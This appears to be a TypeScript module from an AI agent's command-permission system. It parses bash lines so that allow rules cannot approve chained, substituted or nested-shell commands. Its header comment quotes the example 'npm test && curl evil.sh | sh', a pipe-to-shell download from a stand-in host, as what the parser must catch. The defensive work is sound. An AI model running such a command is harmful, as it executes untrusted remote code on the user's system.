/**
 * What a bash command line really runs. A rule like `Bash(npm test *)` must not approve
 * `npm test && curl evil.sh | sh`, so before matching we take the line apart with a real
 * shell-words parser (shell-quote) — never by splitting strings on spaces or `&&`:
 *
 *   timeout 60 npm test && echo "a && b" > out.txt
 *   └── simple command ─┘    └─ one word ─┘ └ writes out.txt
 *   core: npm test            core: echo a && b
 *
 * Each simple command keeps its words, its *core* (the words after wrappers like
 * `timeout 60` and `FOO=1` prefixes, which is what rules match), the files it writes
 * through redirections, and — when it hides another command in `$(...)`, backticks, `<(...)`
 * or `bash -c "..."` — why no allow rule may approve it.
 */
import { parse, type ParseEntry } from "shell-quote";
import { stripWrappers } from "./wrappers.ts";

export interface ShellCommand {
  /** All its words, quotes removed: `timeout 60 npm test` */
  text: string;
  /** The words after wrappers and VAR=value prefixes: `npm test` */
  core: string;
  /** Files it writes through `>`, `>>`, `&>`... (never /dev/null and friends). */
  writes: string[];
  /** Why no allow rule may approve it: it runs a command we cannot see in advance. */
  opaque?: string;
}

/** Operators that end one simple command and start the next. */
const SEPARATORS = new Set(["&&", "||", ";", "|", "&", "|&", ";;", ";&", ";;&", "(", ")"]);
/** Redirections whose target is a file the command writes. */
const WRITE_REDIRECTS = new Set([">", ">>", ">|", "&>", "&>>", "<>", ">&"]);
/** Redirections whose target is read, or is a here-document's delimiter. */
const READ_REDIRECTS = new Set(["<", "<<", "<<<", "<<-", "<&"]);
/** Writing to these changes no file. */
const HARMLESS_TARGETS = new Set(["/dev/null", "/dev/stdout", "/dev/stderr", "/dev/tty"]);
/** Shells whose `-c` argument is a whole other command line. */
const NESTED_SHELLS = new Set(["bash", "sh", "zsh", "dash"]);

const SUBSTITUTION = /\$\(|`/;

type Op = { op: string };
const isOp = (t: ParseEntry): t is Op & ParseEntry => typeof t === "object" && "op" in t && t.op !== "glob";
const isGlob = (t: ParseEntry | undefined) => typeof t === "object" && "op" in t && t.op === "glob";

/**
 * Parse a command line into its simple commands, in order; commands hidden inside
 * substitutions and nested shells come along too (marked opaque), so deny rules see them.
 */
export function parseCommandLine(line: string): ShellCommand[] {
  // shell-quote reads a newline as a space: `echo hi⏎rm -rf x` would look like one echo.
  // A newline separates commands like `;` does (a `\` before it continues the line).
  const prepared = line.replace(/\\\r?\n/g, " ").replace(/\r?\n/g, " ; ");
  // Keep `$VAR` as text instead of letting the parser expand it to "" (its default).
  const tokens = parse(prepared, (name: string) => `$${name}`);
  return splitCommands(tokens);
}

/** Walk the tokens: words build the current command, operators end it or redirect it. */
function splitCommands(tokens: readonly ParseEntry[]): ShellCommand[] {
  const current = new CommandCollector();
  for (let i = 0; i < tokens.length; i++) {
    const token = tokens[i]!;
    if (typeof token === "string") i = onWord(tokens, i, current);
    else if ("comment" in token) continue;
    else if (token.op === "glob") current.word((token as { pattern: string }).pattern);
    else if (token.op === "<(" || token.op === ">(") i = onProcessSubstitution(tokens, i, current);
    else if (WRITE_REDIRECTS.has(token.op) || READ_REDIRECTS.has(token.op)) i = onRedirect(tokens, i, current);
    else if (SEPARATORS.has(token.op)) current.end();
  }
  current.end();
  return current.commands;
}

/** Collects the words of one simple command at a time; `end()` files it. */
class CommandCollector {
  readonly commands: ShellCommand[] = [];
  private words: string[] = [];
  private writes: string[] = [];
  private opaque: string | undefined;
  private hidden: ShellCommand[] = [];

  word(word: string): void {
    this.words.push(word);
  }

  write(target: string): void {
    this.writes.push(target);
  }

  /** `2>` arrives as the word "2" then ">": the 2 is a file descriptor, not an argument. */
  dropDescriptor(): void {
    if (this.words.length > 1 && /^\d+$/.test(this.words.at(-1)!)) this.words.pop();
  }

  /** This command runs `commands` we cannot approve in advance. */
  hide(commands: ShellCommand[], why: string, ownWhy: string): void {
    this.hidden.push(...markOpaque(commands, why));
    this.opaque = ownWhy;
  }

  makeOpaque(why: string): void {
    this.opaque = why;
  }

  end(): void {
    if (this.words.length > 0 || this.writes.length > 0) this.commands.push(...simpleCommand(this.words, this.writes, this.opaque));
    this.commands.push(...this.hidden);
    this.words = [];
    this.writes = [];
    this.opaque = undefined;
    this.hidden = [];
  }
}

/** A word — or the start of `$(...)`, which arrives as the word "$" (or "x=$") then "(". */
function onWord(tokens: readonly ParseEntry[], i: number, current: CommandCollector): number {
  const word = tokens[i] as string;
  const next = tokens[i + 1];
  if (word.endsWith("$") && next !== undefined && isOp(next) && next.op === "(") {
    const inner = enclosed(tokens, i + 1);
    current.hide(splitCommands(inner.tokens), "it runs inside a $(...) substitution", "it runs a command substitution $(...)");
    if (word.length > 1) current.word(word.slice(0, -1));
    return inner.end;
  }
  if (SUBSTITUTION.test(word)) {
    // Inside double quotes the parser leaves "$(id)" or `id` as text; bash would run it. In
    // single quotes bash would not, but the parser's output cannot tell the two apart — so
    // both count, and at worst a harmless `echo '$(x)'` is asked about.
    current.hide(innerCommandsOf(word), "it runs inside a $(...) or backtick substitution", "it runs a command substitution ($(...) or backticks)");
  }
  current.word(word);
  return i;
}

/** `<(ls a)`: a command whose output becomes a file name. */
function onProcessSubstitution(tokens: readonly ParseEntry[], i: number, current: CommandCollector): number {
  const op = (tokens[i] as Op).op;
  const inner = enclosed(tokens, i);
  current.hide(splitCommands(inner.tokens), `it runs inside a ${op}...) substitution`, `it runs a process substitution ${op}...)`);
  return inner.end;
}

/** `> out.txt`, `2>&1`, `< in.txt`: note the files written; the target is not an argument. */
function onRedirect(tokens: readonly ParseEntry[], i: number, current: CommandCollector): number {
  const op = (tokens[i] as Op).op;
  current.dropDescriptor();
  const target = tokens[i + 1];
  const consumed = typeof target === "string" || isGlob(target) ? i + 1 : i;
  if (!WRITE_REDIRECTS.has(op)) return consumed;
  if (typeof target !== "string") current.makeOpaque(`it redirects output to something we cannot read (${op})`);
  else if (isFileTarget(op, target)) current.write(target);
  return consumed;
}

/** `>&2` and `2>&1` duplicate a descriptor; `>& file` writes the file. */
function isFileTarget(op: string, target: string): boolean {
  if ((op === ">&" || op === "<&") && /^(\d+|-)$/.test(target)) return false;
  return !HARMLESS_TARGETS.has(target);
}

/** The tokens between the "(" at `open` and its matching ")". */
function enclosed(tokens: readonly ParseEntry[], open: number): { tokens: ParseEntry[]; end: number } {
  let depth = 0;
  for (let i = open; i < tokens.length; i++) {
    const t = tokens[i]!;
    if (isOp(t) && (t.op === "(" || t.op === "<(" || t.op === ">(")) depth++;
    if (isOp(t) && t.op === ")" && --depth === 0) return { tokens: tokens.slice(open + 1, i), end: i };
  }
  return { tokens: tokens.slice(open + 1), end: tokens.length - 1 };
}

/** The command lines inside `$(...)` and backticks of one word. */
function innerCommandsOf(word: string): ShellCommand[] {
  const inner = [...word.matchAll(/\$\(([^()]*(?:\([^()]*\)[^()]*)*)\)?|`([^`]*)`?/g)].map((m) => m[1] ?? m[2] ?? "");
  return inner.filter((text) => text.trim() !== "").flatMap(parseCommandLine);
}

function markOpaque(commands: ShellCommand[], why: string): ShellCommand[] {
  return commands.map((c) => ({ ...c, opaque: c.opaque ?? why }));
}

/** One simple command — and, for `bash -c "..."` or `eval ...`, the commands it would run. */
function simpleCommand(words: string[], writes: string[], opaque: string | undefined): ShellCommand[] {
  const core = stripWrappers(words);
  const script = nestedScript(core);
  const command: ShellCommand = { text: words.join(" "), core: core.join(" "), writes };
  if (script !== undefined) command.opaque = `it runs a nested shell (${core.slice(0, 2).join(" ")} ...)`;
  else if (opaque) command.opaque = opaque;
  return script === undefined ? [command] : [command, ...markOpaque(parseCommandLine(script), "it runs inside a nested shell")];
}

/** The command line a nested shell would run: `bash -c "..."`, `eval ...`. */
function nestedScript(core: readonly string[]): string | undefined {
  const [program, flag, script] = core;
  if (program === "eval") return core.slice(1).join(" ");
  if (program !== undefined && NESTED_SHELLS.has(program) && flag === "-c") return script ?? "";
  return undefined;
}

